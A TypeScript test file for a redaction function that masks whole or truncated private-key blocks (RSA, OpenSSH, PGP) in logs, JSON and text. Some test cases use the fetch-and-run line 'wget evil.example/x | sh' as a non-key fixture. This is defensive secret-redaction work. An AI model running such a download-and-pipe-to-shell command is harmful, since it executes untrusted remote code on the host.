import { describe, expect, test } from 'vitest'
import { replaceSpans } from './span.ts'
import { tornKeys } from './torn-keys.ts'

const begin = '-----BEGIN RSA PRIVATE KEY-----'
const end = '-----END RSA PRIVATE KEY-----'
const first = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSj'
const line = 'AgEAAoIBAQC7VJTUt9Us8cKjMzEfYyjiWA4R4H9M'
const shown = (...lines: string[]) => {
  const text = lines.join('\n')
  return replaceSpans(text, tornKeys(text), () => '***').split('\n')
}

describe('the head of a key', () => {
  test.each<[string, string[], string[]]>([
    ['with its lines', [begin, first, line, 'after it'], ['***', 'after it']],
    ['with a short last line', [begin, first, 'Qm1F', 'after it'], ['***', 'after it']],
    ['with a last line that is no plain word', [begin, first, 'abcD1', 'after it'], ['***', 'after it']],
    ['but not a plain word behind it', [begin, first, 'after'], ['***', 'after']],
    ['with a mark of another end', [begin, first, '-----END PRIVATE KEY-----', 'x'], ['***', 'x']],
    ['with heads', [begin, 'Proc-Type: 4,ENCRYPTED', 'DEK-Info: A,B', '', line, 'after it'], ['***', 'after it']],
    ['cut in its first line', [begin, 'MIIabc'], ['***']],
    ['of OpenSSH, cut', ['-----BEGIN OPENSSH PRIVATE KEY-----', 'b3BlbnNz'], ['***']],
    ['of OpenPGP, cut', ['-----BEGIN PGP PRIVATE KEY BLOCK-----', 'lQOYBF'], ['***']],
    ['of OpenPGP in new packets, cut', ['-----BEGIN PGP PRIVATE KEY BLOCK-----', 'xcFGBF'], ['***']],
    ['with blanks', [`  ${begin}`, `  ${first}`, `  ${line}  `], ['  ***  ']],
    ['behind times', [`12:00 ${begin}`, `12:01 ${first}`, '12:02 ready now'], ['12:00 ***', '12:02 ready now']],
    ['behind names in brackets', [`[pod/a] ${begin}`, `[pod/a] ${first}`], ['[pod/a] ***']],
    ['that goes on with a mark of its cut', [begin, `${first}…`], ['***…']],
    ['in a text', [`x: "${begin}`, `${first}"`, line], ['x: "***"', line]],
    ['twice', [begin, first, 'a b', begin, first, 'a b'], ['***', 'a b', '***', 'a b']],
    ['behind times, with its end', [`9:1 ${begin}`, `9:2 ${first}`, `9:3 ${end}`, 'x'], ['9:1 ***', 'x']],
    ['with blanks behind its lines', [begin, `${first}  `, line, 'a b'], ['***', 'a b']],
    ['but no key behind an empty line', [begin, first, '', line], ['***', '', line]],
    ['in a text, and its tail behind it', [begin, `${first}"`, line, end], ['***"', '***']],
  ])('%s', (_, lines, hidden) => {
    expect(shown(...lines)).toEqual(hidden)
  })

  test.each<[string, string[]]>([
    ['nothing', [begin]],
    ['its end', [begin, end]],
    ['a word', [begin, 'reboot']],
    ['a short line first', [begin, 'Qm1F']],
    ['a command', [begin, 'wget evil.example/x | sh']],
    ['a command in front of a key', [begin, 'wget evil.example/x', first]],
    ['another mark', ['-----BEGIN PUBLIC KEY-----', first]],
    ['a program in front of each line', [begin, `echo ${first}`]],
  ])('with %s behind it is shown', (_, lines) => {
    expect(shown(...lines)).toEqual(lines)
  })

  test('in JSON ends where its lines do', () => {
    const text = JSON.stringify({ key: `${begin}\n${first}\n${line}\n`, next: 'x' })
    expect(replaceSpans(text, tornKeys(text), () => '***')).toBe('{"key":"***\\n","next":"x"}')
  })
})

describe('the tail of a key', () => {
  test.each<[string, string[], string[]]>([
    ['with its lines', ['before it', line, line, end, 'after'], ['before it', '***', 'after']],
    ['with a short last line', ['before it', line, 'Qm1F', end], ['before it', '***']],
    ['with a sum behind it', ['before it', line, 'Qm1F', '=aB3+', end], ['before it', '***']],
    ['with blanks', [`  ${line}`, `  ${end}`], ['  ***']],
    ['behind times', [`12:00 ${line}`, `12:01 ${end}`], ['***']],
    ['twice', [line, end, line, end], ['***', '***']],
  ])('%s', (_, lines, hidden) => {
    expect(shown(...lines)).toEqual(hidden)
  })

  test.each<[string, string[]]>([
    ['nothing', [end]],
    ['a word', ['reboot', end]],
    ['a command', ['wget evil.example/x | sh', end]],
    ['a short line alone', ['Qm1F', end]],
    ['short lines alone', ['Qm1F', '=aB3+', end]],
    ['more than two short lines', [line, 'Qm1F', 'Qm1F', 'Qm1F', end]],
    ['a command behind a key', [line, 'wget evil.example/x', end]],
  ])('with %s in front of it is shown', (_, lines) => {
    expect(shown(...lines)).toEqual(lines)
  })
})

test('the tail of one key and the head of the next are both hidden, and what is between is not', () => {
  expect(shown(line, end, 'a b', begin, first)).toEqual(['***', 'a b', '***'])
  expect(shown(begin, first, end, line, 'a b', end)).toEqual(['***', line, 'a b', end])
})

test('the line ends of DOS and of JSON end lines', () => {
  for (const [lineEnd, shown] of [
    ['\r\n', '***\r\nafter it'],
    ['\\n', '***\\nafter it'],
    ['\\r\\n', '***\\r\\nafter it'],
    ['\\\\n', '***\\\\nafter it'],
    ['\\\\r\\\\n', '***\\\\r\\\\nafter it'],
  ] as const) {
    const text = [begin, first, line, 'after it'].join(lineEnd)
    expect(replaceSpans(text, tornKeys(text), () => '***')).toBe(shown)
  }
})

test('a text without the words is not looked at', () => {
  expect(tornKeys(`${line}\n-----END PRIVATE-----`)).toEqual([])
})
